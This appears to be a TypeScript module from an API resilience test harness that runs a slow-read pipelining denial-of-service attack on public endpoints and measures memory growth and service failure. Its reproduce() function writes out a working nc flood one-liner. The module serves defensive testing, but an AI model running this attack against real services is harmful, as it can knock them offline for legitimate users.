import { setTimeout as sleep } from 'node:timers/promises';
import { sendRaw } from '../support/verbatim-http.js';
import type { Attack, Finding } from './attack.js';
import { WellBehavedClient } from './well-behaved-client.js';
import { getRequest, BYTES, openConnections, NonReadingClient } from './non-reading-client.js';
import type { Target } from './target.js';

/** Public paths: a large answer, a larger one, and one from the database. */
const PATHS = ['/api/docs-json', '/api/docs/swagger-ui-bundle.js', '/api/doctors/public'];
/** Per path. */
const CONNECTIONS = 40;
const CONNECT_TIMEOUT_MS = 5_000;
const MAX_OPEN_SECONDS = 40;
/** How much the memory of the API may grow. */
const MAX_GROWTH_MIB = 600;

/** Makes sure that the paths are served. */
async function assertServed(target: Target): Promise<void> {
  for (const path of PATHS) {
    const { status } = await sendRaw(target.url, getRequest(path, 'Connection: close'));
    if (status !== 200) throw new Error(`${path} is not public: ${status}`);
  }
}

/** Opens all connections; each sends its requests. */
async function connectAll(target: Target, path: string): Promise<NonReadingClient[]> {
  const clients = Array.from({ length: CONNECTIONS }, () => new NonReadingClient(target, path));
  const until = performance.now() + CONNECT_TIMEOUT_MS;
  while (clients.some(({ port }) => port === 0) && performance.now() < until) await sleep(20);
  return clients;
}

interface Observation {
  /** The largest growth of the API's memory in MiB; undefined if it died. */
  readonly grown: number | undefined;
  /** The number of connections still open at the end. */
  readonly open: number;
  readonly seconds: number;
}

/** Observes the API until all connections are closed, something is wrong, or `MAX_OPEN_SECONDS` have passed. */
async function watch(
  target: Target,
  clients: readonly NonReadingClient[],
  goodClient: WellBehavedClient,
): Promise<Observation> {
  const began = performance.now();
  const before = target.memoryMiB ?? 0;
  let grown = 0;
  for (;;) {
    await sleep(100);
    const memory = target.memoryMiB;
    const ports = openConnections(target);
    const open = clients.filter(({ port }) => ports.has(port)).length;
    const seconds = (performance.now() - began) / 1000;
    if (memory === undefined) return { grown: undefined, open, seconds };
    grown = Math.max(grown, memory - before);
    const isOver = open === 0 || seconds > MAX_OPEN_SECONDS;
    if (isOver || grown > MAX_GROWTH_MIB || goodClient.failed > 0) return { grown, open, seconds };
  }
}

function wrongWith({ grown, open, seconds }: Observation, { answered, failed }: WellBehavedClient): string[] {
  const wrong: string[] = [];
  if (grown === undefined) wrong.push('it died');
  else if (grown > MAX_GROWTH_MIB) wrong.push(`its memory grew by ${Math.round(grown)} MiB`);
  if (failed > 0) wrong.push(`another client was answered ${answered} times, and ${failed} times not`);
  if (seconds > MAX_OPEN_SECONDS) wrong.push(`${open} of ${CONNECTIONS} silent connections were open`);
  return wrong;
}

function reproduce({ url }: Target, path: string): string {
  const { hostname, port } = new URL(url);
  const request = `$(printf 'GET ${path} HTTP/1.1\\r\\nHost: x\\r\\n\\r')`;
  const requests = `(yes "${request}" | head -c ${BYTES}; sleep 60)`;
  return `for i in $(seq ${CONNECTIONS}); do ${requests} | nc ${hostname} ${port} | sleep 60 & done`;
}

/**
 * Attacks one path.
 *
 * @throws Error if the clients did not connect, send and leave the answers unread
 */
async function attack(target: Target, path: string): Promise<{ observed: Observation; found: Finding[] }> {
  const goodClient = new WellBehavedClient(target);
  const clients = await connectAll(target, path);
  try {
    const observed = await watch(target, clients, goodClient);
    await goodClient.stop();
    const wrong = wrongWith(observed, goodClient);
    // A disconnected client may not have sent everything, and after a finding it does not matter who sent what.
    const count = clients.filter(({ port, hasSent, hasRead }) => port !== 0 && hasSent && !hasRead).length;
    if (wrong.length === 0 && count < CONNECTIONS)
      throw new Error(
        `only ${count} of ${CONNECTIONS} connected to ask for ${path}, asked, and did not read`,
      );
    const found = wrong.map((what) => ({
      what: `${Math.round(observed.seconds)} s after clients requested ${path} and did not read, ${what}`,
      reproduce: reproduce(target, path),
    }));
    return { observed, found };
  } finally {
    await goodClient.stop();
    for (const client of clients) client.end();
  }
}

/** Clients without a token that send many requests at once and never read an answer. */
export const pipelining: Attack = {
  name: 'pipelining',
  about: `${CONNECTIONS} connections of strangers, each with ${BYTES / 1024} KB of requests at once, that never read an answer`,
  async run(target) {
    await assertServed(target);
    const findings: Finding[] = [];
    const notes: string[] = [];
    for (const path of PATHS) {
      const { observed, found } = await attack(target, path);
      const mib = Math.round(observed.grown ?? 0);
      notes.push(`${path} in ${observed.seconds.toFixed(1)} s, ${mib} MiB more`);
      findings.push(...found);
      // The API may be down, so further attacks would prove nothing.
      if (found.length > 0) break;
    }
    return {
      tried: notes.length * CONNECTIONS,
      findings,
      note: `${findings.length === 0 ? 'all disconnected' : 'watched'}: ${notes.join('; ')}`,
    };
  },
};
